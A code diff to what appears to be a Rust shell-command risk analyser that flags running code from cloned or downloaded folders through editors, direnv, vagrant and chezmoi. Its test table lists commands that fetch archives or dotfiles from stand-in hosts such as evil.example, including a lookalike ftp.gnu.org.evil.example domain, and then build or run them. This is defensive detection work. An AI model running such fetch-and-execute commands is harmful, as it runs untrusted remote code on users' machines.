@@ -103,7 +103,16 @@ impl Machine<'_> {
         let Some(page) = page else { return };
         let into = call.args.values("-C").chain(call.args.values("-d")).last().map_or(".", |item| item.text);
         let path = paths::locate_path(into, &self.state.cwd, self.ctx);
+        // `$(curl https://…)`
+        let shown = self.unknowns.show(page.trim_end());
+        let url = shown.split_whitespace().last().unwrap_or_default().trim_end_matches(')');
         self.files.push((format!("{}/", path.trim_end_matches('/')), page.trim_end().to_owned()));
+        if publishers::is_release_of_sources(url) {
+            // It is built as a clone of it would be.
+            self.released(&path);
+        } else if self.strange.len() < FOLDERS {
+            self.strange.push(path.clone());
+        }
         if self.cloned.len() < FOLDERS {
             self.cloned.push(path);
         }
@@ -111,11 +120,39 @@ impl Machine<'_> {
 
     /// A command that runs or builds what was cloned.
     pub(super) fn runs_cloned(&mut self, argv: &[Field]) {
+        self.applies_settings(argv);
         let Some(first) = argv.first().filter(|_| !self.cloned.is_empty()) else { return };
         if first.text.contains('/') && !value::has_hole(&first.text) && self.is_cloned(&first.text) {
             let detail = if self.builds_in_place(argv) { PLACE } else { SCRIPT };
             self.says_cloned(first, detail);
+            return;
         }
+        if let Some(field) = opened(argv)
+            && self.is_cloned(&field.text)
+        {
+            self.says_cloned(&field, SCRIPT);
+        }
+    }
+
+    /// `chezmoi init --apply WHO`: somebody's settings, with the scripts among them.
+    fn applies_settings(&mut self, argv: &[Field]) {
+        let is = |at: usize, word: &str| argv.get(at).is_some_and(|field| field.text == word);
+        if argv.len() < 4 || !argv[0].text.ends_with("chezmoi") || !is(1, "init") {
+            return;
+        }
+        let applies = argv.iter().any(|field| matches!(field.text.as_str(), "--apply" | "-a" | "--one-shot"));
+        let Some(from) = argv.iter().skip(2).find(|field| !field.text.starts_with('-')) else { return };
+        if !applies {
+            return;
+        }
+        let stranger = from.text.contains("://")
+            && (!from.text.starts_with("https://") || !known::is_forge(known::host_of(&from.text)));
+        if stranger {
+            let span = self.at(from.span);
+            let target = self.target(TargetClass::Host, &self.unknowns.show(&from.text), span);
+            return self.emit(EffectKind::RunCode, target, false, "chezmoi", span);
+        }
+        self.says_cloned(from, SCRIPT);
     }
 
     /// The same for a program that has a spec: an interpreter with a script, a tool that builds.
@@ -137,9 +174,12 @@ impl Machine<'_> {
         let place = call.args.values("-C").last().map_or(".", |item| item.text);
         if builds && self.is_cloned(place) {
             let path = paths::locate_path(place, &self.state.cwd, self.ctx);
+            let relative = !path.starts_with(['/', value::HOME]) && !path.starts_with("..");
             let strange = self.strange.iter().any(|folder| {
-                path.strip_prefix(folder.as_str())
-                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
+                folder == "." && relative
+                    || path
+                        .strip_prefix(folder.as_str())
+                        .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
             });
             self.says_cloned(&call.argv[0], if strange { STRANGE } else { BUILD });
         }
@@ -160,6 +200,28 @@ impl Machine<'_> {
         let span = self.at(field.span);
         let target = self.target(TargetClass::Named, &self.unknowns.show(&field.text), span);
         self.emit_with(EffectKind::RunCode, target, false, "git", span, detail);
+    }
+}
+
+/// What a program that is no interpreter runs of a folder: the script of an editor, the settings of a shell, a machine.
+fn opened(argv: &[Field]) -> Option<Field> {
+    let (first, rest) = argv.split_first()?;
+    let name = first.text.rsplit('/').next().unwrap_or_default();
+    let after = |flags: &[&str]| {
+        let mut pairs = rest.windows(2);
+        pairs.find(|pair| flags.contains(&pair[0].text.as_str())).and_then(|pair| pair.get(1)).cloned()
+    };
+    let here = || Field { text: ".".to_owned(), span: first.span };
+    let verb = rest.first().map(|field| field.text.as_str());
+    match name {
+        "gvim" | "nvim" | "vi" | "view" | "vim" => after(&["-S", "-s", "-u", "--cmd"]),
+        "emacs" => after(&["--script", "-l", "--load", "-x"]),
+        "gdb" | "lldb" => after(&["-x", "-s", "--command", "--source"]),
+        "screen" | "ansible-playbook" => after(&["-c"]).or_else(|| rest.first().cloned()),
+        "tmux" => after(&["source-file", "source", "-f"]),
+        "direnv" if verb == Some("allow") => rest.get(1).cloned().or_else(|| Some(here())),
+        "vagrant" if verb == Some("up") => Some(here()),
+        _ => None,
     }
 }
 
@@ -216,6 +278,29 @@ mod tests {
                 (Moderate, "git clone https://github.com/someone/x ~/bin"),
                 (Safe, "git clone https://github.com/someone/x ~/src/x"),
                 (Safe, "git clone ../tool copy && ./copy/run.sh"),
+                (Moderate, "git clone https://github.com/someone/x && vim -S x/s.vim"),
+                (Safe, "git clone https://github.com/someone/x && vim x/README.md"),
+                (Moderate, "git clone https://github.com/someone/x && emacs --script x/s.el"),
+                (Moderate, "git clone https://github.com/someone/x && cd x && direnv allow"),
+                (Moderate, "git clone https://github.com/someone/x && direnv allow x"),
+                (Safe, "direnv allow"),
+                (Moderate, "chezmoi init --apply someone"),
+                (High, "chezmoi init --apply https://evil.example/d.git"),
+                (Safe, "chezmoi init someone"),
+                (Safe, "chezmoi apply"),
+                (Moderate, "git clone https://github.com/someone/x && cd x && vagrant up"),
+                (Moderate, "curl -L https://evil.example/x.tar.gz | tar xz && cd x && make"),
+                (Moderate, "wget -qO- https://evil.example/x.tgz | tar xz; cd x; npm install"),
+                (Safe, "curl -L https://evil.example/x.tar.gz | tar xz && ls x"),
+                (
+                    Safe,
+                    "wget https://ftp.gnu.org/gnu/x/x-2.tar.gz && tar xzf x-2.tar.gz && cd x-2 && ./configure && make",
+                ),
+                (Safe, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && make -C x-1"),
+                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && ./x-1/install.sh"),
+                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && sh < x-1/install.sh"),
+                (High, "curl -L http://ftp.gnu.org/x.tar.gz | tar xz && ./x-1/configure"),
+                (High, "curl -L https://ftp.gnu.org.evil.example/x.tar.gz | tar xz && ./x-1/configure"),
             ],
         );
     }
